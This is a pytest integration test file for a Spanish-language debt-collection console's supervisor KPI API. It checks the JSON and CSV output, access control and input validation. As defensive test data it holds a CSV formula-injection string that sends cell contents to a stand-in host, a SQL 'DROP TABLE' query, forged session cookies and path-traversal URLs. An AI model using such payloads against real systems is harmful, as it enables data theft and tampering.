"""The supervisors' dashboard API on the real console (aiohttp on a loopback port, the fake Rasa
of test_console_security.py), over the hand-built KPI portfolio of tests/support/kpis.py:
``GET /api/supervisor/kpis`` answers what cobranza/services/kpis/ computes, with each
indicator's label, unit and definition; ``GET /api/supervisor/kpis.csv`` the same numbers as a
download no spreadsheet runs as formulas. Supervisors only (401 without a session, 403 for an
agent); hostile queries get a 400 in Spanish; concurrent loads all get the same answer; a
simulation's database says so. And Chart.js, vendored from npm, is served from the console's
own origin with the version package.json pins."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import requests
from sqlalchemy.engine import Engine

from cobranza import db
from cobranza.config import PROJECT_ROOT
from cobranza.console.routes import VENDOR
from cobranza.db import audit
from cobranza.db.models import ContactAttempt
from cobranza.domain.kpis import INDICATORS, kpis_csv
from cobranza.domain.vocabulary import AuditAction, ConsoleRole
from cobranza.services import agents
from cobranza.services.kpis import dashboard, kpis
from tests.integration.console.test_console_security import (
    ANA,
    ANA_PASSWORD,
    MovableClock,
    Running,
    _starter,
)
from tests.support import kpis as data
from tests.support.clock import NOW

SOFIA, SOFIA_PASSWORD = "sofia.mora", "clave-de-sofia-123"
ZONE = "America/Mexico_City"
NOV = "from=2026-11-01&to=2026-11-30"
HOSTILE_CAMPAIGN = '=HYPERLINK("http://malo.example/?"&A1,"clic")'


def _console(url: str, build: bool = True) -> Iterator[Running]:
    """The console over a migrated database (with the hand-built portfolio when ``build``), with
    Ana and Beto (agents, from the starter) and Sofía (supervisor)."""
    engine = db.make_engine(url)
    db.upgrade(engine)
    sessions = db.make_session_factory(engine)
    if build:
        with db.session_scope(sessions) as session:
            data.build(session)
    starter = _starter(url)
    try:
        start = next(starter)  # adds the agents
        with db.session_scope(sessions) as session:
            role = ConsoleRole.SUPERVISOR
            agents.add_agent(session, SOFIA, "Sofía Mora", SOFIA_PASSWORD, MovableClock(NOW), role)
        engine.dispose()
        yield start()
    finally:
        starter.close()


@pytest.fixture
def console(tmp_path: Path) -> Iterator[Running]:
    yield from _console(f"sqlite:///{tmp_path / 'kpis.db'}")


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def any_console(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Running]:
    url = f"sqlite:///{tmp_path / 'kpis.db'}"
    if request.param == "postgresql":
        engine: Engine = request.getfixturevalue("empty_postgres")
        url = engine.url.render_as_string(hide_password=False)
    yield from _console(url)


@pytest.fixture
def empty_console(tmp_path: Path) -> Iterator[Running]:
    yield from _console(f"sqlite:///{tmp_path / 'empty.db'}", build=False)


def _sofia(console: Running) -> requests.Session:
    return console.agent(SOFIA, SOFIA_PASSWORD)


def _get(client: Any, console: Running, path: str) -> requests.Response:
    return client.get(f"{console.url}/api/supervisor/{path}", timeout=60)


def _expected(console: Running, start: date, end: date, split: str | None) -> dict[str, Any]:
    """What the service computes, as JSON would carry it."""
    with console.sessions() as session:
        board = dashboard(session, start, end, split, zone=ZONE)
    return json.loads(json.dumps(board.as_dict(), default=str))


def _csv(reply: requests.Response) -> list[list[str]]:
    assert reply.content.startswith("\ufeff".encode())  # a spreadsheet then reads UTF-8
    return list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"))))


# --- the numbers are the service's ---------------------------------------------------------------


def test_the_json_is_what_the_service_computes(any_console: Running) -> None:
    sofia = _sofia(any_console)
    start, end = data.START, data.END
    for split in (None, "bucket", "persona", "creditor", "campaign", "channel", "arm"):
        query = NOV + (f"&by={split}" if split else "")
        reply = _get(sofia, any_console, f"kpis?{query}")
        assert reply.status_code == 200, reply.text
        assert reply.headers["Content-Type"].startswith("application/json")
        assert reply.json() == _expected(any_console, start, end, split), split
    found = _get(sofia, any_console, f"kpis?{NOV}&by=bucket").json()
    # The hand-derived numbers of tests/integration/services/test_kpis.py.
    total = found["total"]["values"]
    assert total["contacted"] == 6 and total["debtors_delivered"] == 3
    assert total["reply_rate"] == {"value": 4 / 6, "numerator": 4, "denominator": 6}
    assert total["pesos_collected"] == "7000.00" and total["debtors_kept"] == 2
    assert found["total"]["blocks_by_rule"] == {
        "contact_window": 2,
        "daily_cap": 1,
        "identity": 1,
        "debtor_known": 1,
    }
    assert [g["key"] for g in found["groups"]] == [
        "al_corriente",
        "1-30",
        "31-60",
        "61-90",
        "90+",
        "sin saldo",
    ]
    assert (found["split"], found["split_label"], found["simulated"]) == (
        "bucket",
        "tramo al inicio",
        False,
    )
    assert [d["day"] for d in found["trend"]] == [f"2026-11-{d:02d}" for d in range(1, 31)]
    assert found["trend"][2]["values"]["contacted"] == 1  # D1 on 3 Nov
    assert found["funnel"] == [
        "contacted",
        "debtors_delivered",
        "replied",
        "verified",
        "promised",
        "debtors_kept",
    ]
    described = {i["key"]: i for i in found["indicators"]}
    assert list(described) == [i.key for i in INDICATORS]
    assert described["reply_rate"] == {
        "key": "reply_rate",
        "label": "tasa de respuesta",
        "kind": "rate",
        "unit": "%",
        "definition": "Deudores contactados que respondieron ÷ deudores contactados.",
    }
    assert found["rules"]["daily_cap"] == "límite diario de contactos"


def test_without_dates_the_last_30_whole_days_of_the_operations_zone(console: Running) -> None:
    """NOW is 18:00 UTC on 22 Nov, noon in Mexico City: the 30 days up to the 21st."""
    found = _get(_sofia(console), console, "kpis").json()
    assert (found["start"], found["end"], found["zone"]) == ("2026-10-23", "2026-11-21", ZONE)
    assert found["split"] is None and found["groups"] == [] and len(found["trend"]) == 30
    assert found == _expected(console, date(2026, 10, 23), date(2026, 11, 21), None)
    only_to = _get(_sofia(console), console, "kpis?to=2026-11-30").json()
    assert (only_to["start"], only_to["end"]) == ("2026-11-01", "2026-11-30")


def test_an_empty_portfolio_has_zeros_and_no_rates(empty_console: Running) -> None:
    sofia = _sofia(empty_console)
    found = _get(sofia, empty_console, f"kpis?{NOV}&by=campaign").json()
    total = found["total"]["values"]
    assert found["groups"] == [] and found["simulated"] is False
    for indicator in INDICATORS:
        value = total[indicator.key]
        if indicator.kind == "rate":
            assert value is None or value["value"] is None, indicator.key  # "—", never 0 %
        elif indicator.kind == "hours":
            assert value is None, indicator.key
        else:
            assert value in (0, "0.00"), indicator.key
    assert all(d["values"]["contacted"] == 0 for d in found["trend"])
    rows = _csv(_get(sofia, empty_console, f"kpis.csv?{NOV}"))
    assert [r[0] for r in rows] == ["grupo", "total"]
    assert rows[1][rows[0].index("tasa de respuesta")] == ""


# --- the CSV ------------------------------------------------------------------------------------


def test_the_csv_is_the_same_numbers_escaped_and_never_a_formula(console: Running) -> None:
    with db.session_scope(console.sessions) as session:  # a campaign name written to attack
        for name in (HOSTILE_CAMPAIGN, 'coma, "comillas"\ny salto'):
            session.add(
                ContactAttempt(
                    debtor_phone=data.D7,
                    channel="whatsapp",
                    direction="outbound",
                    initiated_by=f"campaign:{name}",
                    attempted_at=data.local(11, 18, 10),
                    outcome="sent",
                )
            )
    reply = _get(_sofia(console), console, f"kpis.csv?{NOV}&by=campaign")
    assert reply.status_code == 200, reply.text
    assert reply.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert reply.headers["Content-Disposition"] == (
        'attachment; filename="indicadores_2026-11-01_2026-11-30_campaign.csv"'
    )
    assert reply.headers["Cache-Control"] == "no-store"
    assert reply.headers["X-Content-Type-Options"] == "nosniff"
    rows = _csv(reply)
    with console.sessions() as session:
        report = kpis(session, data.START, data.END, "campaign", zone=ZONE)
    assert rows == list(csv.reader(io.StringIO(kpis_csv(report))))
    names = [r[0] for r in rows[1:]]
    assert names[0] == "total" and "'" + HOSTILE_CAMPAIGN in names
    assert 'coma, "comillas"\ny salto' in names and HOSTILE_CAMPAIGN not in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    header = rows[0]
    assert header[0] == "campaña" and header[1 : 1 + len(INDICATORS)] == [
        i.label for i in INDICATORS
    ]
    assert rows[1][header.index("deudores contactados")] == "7"  # D7 now too
    days = _csv(_get(_sofia(console), console, f"kpis.csv?{NOV}&by=day"))
    assert [r[0] for r in days] == ["día", "total"] + [f"2026-11-{d:02d}" for d in range(1, 31)]


def test_a_simulations_numbers_say_so(console: Running) -> None:
    sofia = _sofia(console)
    assert _get(sofia, console, f"kpis?{NOV}").json()["simulated"] is False
    with db.session_scope(console.sessions) as session:  # what cobranza simulate writes
        audit.record(session, NOW, AuditAction.SIMULATION_STARTED, None, actor="simulacion")
    assert _get(sofia, console, f"kpis?{NOV}").json()["simulated"] is True
    reply = _get(sofia, console, f"kpis.csv?{NOV}&by=persona")
    assert (
        'filename="indicadores_simulados_2026-11-01_2026-11-30_persona.csv"'
        in (reply.headers["Content-Disposition"])
    )
    rows = _csv(reply)
    assert rows[0][-1] == "datos"
    assert {r[-1] for r in rows[1:]} == {"simulados: no son de ningún acreedor"}


# --- who may ask, and what -----------------------------------------------------------------------


def test_supervisors_only(console: Running) -> None:
    ana = console.agent(ANA, ANA_PASSWORD)
    for path in (f"kpis?{NOV}", f"kpis.csv?{NOV}", f"kpis?{NOV}&role=supervisor"):
        anonymous = _get(requests, console, path)
        assert anonymous.status_code == 401, path
        assert anonymous.json() == {"error": "Tu sesión expiró o no has entrado. Vuelve a entrar."}
        refused = _get(ana, console, path)
        assert refused.status_code == 403, path
        assert refused.json() == {"error": "Tu rol no permite esta acción."}
        forged = requests.get(
            f"{console.url}/api/supervisor/{path}",
            headers={"Authorization": "Bearer " + "a" * 43, "X-Rol": "supervisor"},
            cookies={"consola_sesion": "falsa", "rol": "supervisor"},
            timeout=30,
        )
        assert forged.status_code == 401, path
    with_bearer = requests.get(
        f"{console.url}/api/supervisor/kpis?{NOV}",
        headers={"Authorization": "Bearer " + console.login(SOFIA, SOFIA_PASSWORD).json()["token"]},
        timeout=30,
    )
    assert with_bearer.status_code == 200  # the helpdesk's way in


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("from=2026-13-01", "AAAA-MM-DD"),
        ("from=2026-11-1", "AAAA-MM-DD"),
        ("from=%202026-11-01", "AAAA-MM-DD"),
        ("from=2026-11-01T00:00", "AAAA-MM-DD"),
        ("from=%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96-11-01", "AAAA-MM-DD"),  # full-width digits
        ("from=2026-11-01%00", "AAAA-MM-DD"),
        ("from=hoy", "AAAA-MM-DD"),
        ("to=0001-01-01", "AAAA-MM-DD"),  # 30 days before it do not exist
        ("from=2026-11-30&to=2026-11-01", "posterior"),
        ("from=2026-11-22", "posterior"),  # today: after yesterday, the default end
        ("from=2025-01-01&to=2026-01-02", "366 días"),
        ("from=1000-01-01&to=1000-01-31", "Las fechas van del 1900-01-01 al 2199-12-31"),
        ("from=9999-12-01&to=9999-12-31", "Las fechas van del"),
        ("by=brazo", "Desglose desconocido"),
        ("by=day", "Desglose desconocido"),  # the JSON has the trend already
        ("by=bucket%27%3B%20DROP%20TABLE%20debts%3B--", "Desglose desconocido"),
        ("by=BUCKET", "Desglose desconocido"),
        ("from=2026-11-01&from=2026-11-02", "una vez"),
        ("by=bucket&by=persona", "una vez"),
        ("role=supervisor", "Se acepta"),
        ("fr%00om=2026-11-01", "Se acepta"),
        (NOV + "&by=" + "x" * 300, "demasiado larga"),
    ],
)
def test_hostile_queries_get_a_400_in_spanish(console: Running, query: str, message: str) -> None:
    sofia = _sofia(console)
    for path in ("kpis", "kpis.csv"):
        if path == "kpis.csv" and query == "by=day":
            continue  # the CSV may be by day
        reply = _get(sofia, console, f"{path}?{query}")
        assert reply.status_code == 400, (path, query, reply.text)
        assert message in reply.json()["error"], (path, query)
        assert reply.headers["Content-Security-Policy"].startswith("default-src 'none'")


def test_edges_that_are_accepted(console: Running) -> None:
    sofia = _sofia(console)
    year = _get(sofia, console, "kpis?from=2025-01-01&to=2026-01-01")  # 366 days: the most
    assert year.status_code == 200 and len(year.json()["trend"]) == 366
    one = _get(sofia, console, "kpis?from=2026-11-03&to=2026-11-03&by=")  # "by=": no split
    assert one.status_code == 200 and one.json()["total"]["values"]["contacted"] == 1
    assert _get(sofia, console, f"kpis.csv?{NOV}&by=day").status_code == 200


def test_an_oversized_request_line_is_refused_before_any_route(console: Running) -> None:
    reply = _get(_sofia(console), console, "kpis?by=" + "x" * 20_000)
    assert reply.status_code in (400, 414), reply.status_code


def test_concurrent_loads_all_get_the_same_answer(any_console: Running) -> None:
    """Twelve loads at once (more than the two that run at a time; the rest wait): each gets
    what it gets alone."""
    sofia = _sofia(any_console)
    queries = [f"kpis?{NOV}&by={s}" for s in ("bucket", "persona", "creditor", "campaign")] * 2
    queries += [f"kpis.csv?{NOV}&by={s}" for s in ("channel", "day", "bucket", "persona")]
    alone = {q: _get(sofia, any_console, q).content for q in set(queries)}
    with ThreadPoolExecutor(max_workers=len(queries)) as pool:
        replies = list(pool.map(lambda q: _get(sofia, any_console, q), queries))
    assert [r.status_code for r in replies] == [200] * len(queries)
    assert [r.content for r in replies] == [alone[q] for q in queries]


# --- Chart.js, vendored from npm ---------------------------------------------------------------


def _pinned() -> str:
    package = json.loads((PROJECT_ROOT / "package.json").read_text())
    lock = json.loads((PROJECT_ROOT / "package-lock.json").read_text())
    version = str(package["dependencies"]["chart.js"])
    assert re.fullmatch(r"\d+\.\d+\.\d+", version), "pin an exact version"
    assert lock["packages"]["node_modules/chart.js"]["version"] == version
    assert "node_modules/chart.js/dist/chart.umd.min.js" in package["scripts"]["vendor-console"]
    return version


def test_chart_js_is_the_pinned_version_served_from_the_console(console: Running) -> None:
    version = _pinned()
    vendored = (VENDOR / "chart.umd.min.js").read_bytes()
    assert vendored.startswith(f"/*!\n * Chart.js v{version}\n".encode())
    assert b"eval(" not in vendored and b"new Function" not in vendored  # the CSP forbids both
    reply = requests.get(f"{console.url}/static/vendor/chart.umd.min.js", timeout=30)
    assert reply.status_code == 200 and reply.content == vendored
    assert reply.headers["Content-Type"] == "text/javascript; charset=utf-8"
    assert "script-src 'self';" in reply.headers["Content-Security-Policy"]
    for path in (
        "/static/vendor/..%2Fconsole.js",
        "/static/vendor/%2E%2E/console.js",
        "/static/vendor/nada.js",
        "/static/chart.umd.min.js",
        "/static/vendor/",
    ):
        assert requests.get(console.url + path, timeout=30).status_code == 404, path
